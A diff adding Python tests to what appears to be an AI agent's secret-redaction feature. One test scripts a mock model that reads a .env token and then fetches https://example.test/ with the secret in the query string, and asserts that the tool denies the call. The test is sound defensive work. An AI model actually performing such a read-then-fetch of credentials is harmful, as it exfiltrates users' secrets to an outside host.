@@ -169,6 +169,46 @@ def test_a_value_learnt_late_changes_nothing_that_was_sent(provider: ProviderSer
     assert_hidden(provider)
 
 
+def test_what_would_carry_a_secret_away_asks_in_every_mode(provider: ProviderServer) -> None:
+    Path(".env").write_text(f"TOKEN={K}\n")
+
+    def carry(asked: Asked) -> Reply:
+        return call("fetch", {"url": f"https://example.test/?q={stand_in(asked)}"})
+
+    provider.script(call("read", {"path": ".env"}), carry, text("done"))
+    done = yolo(provider, "--allow", "fetch:example.test", "go")
+    assert done.exit_code == 4
+    result = provider.requests[2].results[-1]
+    assert result.startswith("Denied")
+    assert "the secret TOKEN" in result
+    assert_hidden(provider)
+    assert K not in done.stdout + done.stderr
+
+
+def test_the_same_words_in_an_ordinary_file_are_no_secret(provider: ProviderServer) -> None:
+    """The twin: what the other tests look for would be seen."""
+    Path("notes.txt").write_text(f"TOKEN={K}\n")
+    provider.script(call("read", {"path": "notes.txt"}), text("done"))
+    yolo(provider, "go")
+    assert K in provider.requests[1].results[0]
+
+
+def test_a_session_from_before_says_nothing_any_more(provider: ProviderServer) -> None:
+    """What was said when nobody knew it for a secret."""
+    Path("notes.txt").write_text(f"TOKEN={K}\n")
+    provider.script(call("read", {"path": "notes.txt"}), text(f"It is {K}."))
+    yolo(provider, f"use {K}")
+    before = len(provider.requests)
+    Path(".env").write_text(f"TOKEN={K}\n")
+    provider.forget_prefix()
+    provider.script(call("shell", {"command": "true"}), text("done"))
+    assert yolo(provider, "-c", "again").exit_code == 0
+    assert K.encode() not in b"".join(asked.body for asked in provider.requests[before:])
+    shown = run_wolo("sessions", "wire")
+    assert json.dumps(K)[1:-1] not in shown.stdout
+    assert K not in shown.stdout
+
+
 def test_a_secret_file_that_is_no_file_is_left_alone(provider: ProviderServer, isolated: Path) -> None:
     outside = isolated / "outside.txt"
     outside.write_text(f"TOKEN={K}\n")
